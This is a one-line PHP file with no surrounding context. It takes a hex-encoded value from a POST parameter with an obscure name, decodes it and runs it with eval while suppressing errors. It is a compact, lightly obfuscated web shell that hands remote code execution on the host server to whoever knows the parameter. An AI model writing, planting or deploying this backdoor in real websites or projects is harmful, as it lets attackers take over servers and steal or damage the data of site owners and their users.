<?php @eval(@hex2bin($_POST['0x1f3a5c']));
